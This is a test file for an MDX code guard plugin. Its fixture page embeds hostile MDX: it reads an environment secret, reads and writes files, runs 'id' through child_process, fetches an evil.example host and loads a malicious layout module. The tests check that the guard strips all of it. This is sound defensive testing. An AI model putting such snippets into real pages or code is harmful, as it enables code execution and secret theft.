import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { mdxToJs } from 'satteri';
import { mdastMdxCodeGuard } from '../../../src/plugins/mdast-mdx-code-guard.ts';
import { PROJECT } from '../../helpers/run-cli.ts';

/** The JavaScript module MDX makes of `source`, with the guard in the pipeline as astro.config.mjs puts it. */
async function compile(source: string, guarded = true): Promise<string> {
  return (await mdxToJs(source, { mdastPlugins: guarded ? [mdastMdxCodeGuard] : [] })).code;
}

const PAGE = `---
title: Payments API down
---

{process.env.RUNBOOKS_SECRET}

export const written = (await import('node:fs')).writeFileSync('/tmp/ran', 'ran')

import fs from 'node:fs'

Read {frontmatter.title} first {(await import('node:fs')).readFileSync('/etc/hostname', 'utf8')}{/* a note */}{'.'}

<span title={process.env.RUNBOOKS_SECRET} {...globalThis} lang="en" data-page={frontmatter.title}>
the **pool** {globalThis.fetch('https://evil.example')} <b title={process.env.RUNBOOKS_SECRET}>limits</b>

<div className={require('node:child_process').execSync('id')}>{process.env.RUNBOOKS_SECRET}</div>
</span>
`;

describe('mdastMdxCodeGuard: MDX code the check refuses is never compiled', () => {
  test('no import, export, refused expression or attribute reaches the module', async () => {
    const code = await compile(PAGE);
    assert.doesNotMatch(code, /process|node:fs|writeFileSync|readFileSync|globalThis|evil\.example|child_process|require|written/);
    // The module is only the page's content: it imports the JSX runtime and nothing else.
    assert.deepEqual(code.match(/^import .*$/gm), ['import { Fragment as _Fragment, jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";']);
  });

  test('what the check allows keeps working: frontmatter fields, literals, comments, literal attributes', async () => {
    const code = await compile(PAGE);
    assert.match(code, /"Read ",\s*frontmatter\.title,\s*" first ",\s*"\."/);
    assert.match(code, /lang: "en",\s*"data-page": frontmatter\.title/);
    assert.match(code, /_jsx\(_components\.b, \{ children: "limits" \}\)/);
    assert.match(code, /_jsx\(_components\.div, \{\}\)/);
  });

  test('a frontmatter `layout`, which Astro would import as a module, is dropped; the other fields stay', async () => {
    const frontmatter = { title: 'Payments API down', layout: './evil.mjs' };
    const { data } = await mdxToJs('Text.\n', {
      mdastPlugins: [mdastMdxCodeGuard],
      data: { astro: { frontmatter, headings: [], localImagePaths: new Set(), remoteImagePaths: new Set() } },
    });
    assert.deepEqual(data.astro?.frontmatter, { title: 'Payments API down' });
  });

  test('a page the check accepts compiles to the same module with and without the guard', async () => {
    const page = readFileSync(join(PROJECT, 'tests/fixtures/good/runbooks/payments/database-down.mdx'), 'utf8');
    assert.equal(await compile(page), await compile(page, false));
  });

  test('without the guard the same page would compile its code (what the test guards against)', async () => {
    assert.match(await compile(PAGE, false), /process\.env\.RUNBOOKS_SECRET/);
  });
});
